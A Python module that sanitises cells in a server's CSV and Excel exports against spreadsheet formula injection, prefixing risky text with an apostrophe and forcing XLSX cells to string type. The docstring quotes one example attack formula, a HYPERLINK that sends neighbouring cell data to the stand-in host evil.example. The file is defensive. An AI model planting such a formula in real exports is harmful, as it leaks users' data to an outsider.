"""Cells of the CSV and Excel files the server writes, made safe to open in a spreadsheet (formula injection).

A text cell that starts with = + - @, TAB, CR or LF (or their full-width forms ＝ ＋ － ＠, which some CJK
spreadsheet programs take for the ASCII ones) would be read by Excel, WPS or LibreOffice as a formula: a supplier
named =HYPERLINK("http://evil.example/?leak="&B2,"详情") sends the sheet's neighbours to a stranger when clicked.
Such a cell is written with a leading apostrophe ' (OWASP "CSV injection"): the program shows it as text. Numbers
(int, Decimal, float) are never touched, so negative amounts stay numbers; money meant as a number must be given
as one (Decimal for yuan), not as text.

In XLSX every text cell is also written with the string type, so openpyxl never writes a formula (<f>), and the
characters XML cannot carry (C0 controls other than TAB/LF/CR, possibly in rows stored before names were checked)
become U+FFFD instead of failing the download. Every writer goes through here: `csv_chunks`
(models/exports/csv_chunks.py) calls `safe_row` on each row, and `xlsx_bytes` below builds every workbook.
"""
from __future__ import annotations

import io
from collections.abc import Iterable
from dataclasses import dataclass
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
PREFIX = "'"


def safe_cell(value: Any) -> Any:
    """`value` as a spreadsheet may safely read it: text that would start a formula gets a leading '."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return PREFIX + value
    return value


def safe_row(row: Iterable[Any]) -> list[Any]:
    return [safe_cell(value) for value in row]


@dataclass(frozen=True)
class Column:
    """A worksheet column: its width (in characters) and the number format of its numbers (None: as written)."""

    width: float
    number_format: str | None = None


def xlsx_bytes(rows: Iterable[Iterable[Any]], title: str, columns: list[Column] | None = None,
               header_rows: int = 0) -> bytes:
    """One worksheet holding `rows` (write-only mode: rows are not kept as cell objects); text cells are strings.
    `columns` set widths and number formats; the first `header_rows` stay in view while scrolling."""
    from openpyxl import Workbook  # imported when a workbook is asked for: it is slow to import
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
    from openpyxl.utils import get_column_letter

    book = Workbook(write_only=True)
    sheet = book.create_sheet(title=title[:31])
    columns = columns or []
    for i, column in enumerate(columns, start=1):
        sheet.column_dimensions[get_column_letter(i)].width = column.width
    if header_rows:
        sheet.freeze_panes = f"A{header_rows + 1}"

    def cell(value: Any, index: int) -> Any:
        if not isinstance(value, str):
            fmt = columns[index].number_format if index < len(columns) else None
            if fmt is None or value is None:
                return value
            number = WriteOnlyCell(sheet, value)
            number.number_format = fmt
            return number
        text = WriteOnlyCell(sheet, ILLEGAL_CHARACTERS_RE.sub("\ufffd", safe_cell(value)))
        text.data_type = "s"  # never "f", whatever the text
        return text

    for row in rows:
        sheet.append([cell(value, i) for i, value in enumerate(row)])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()
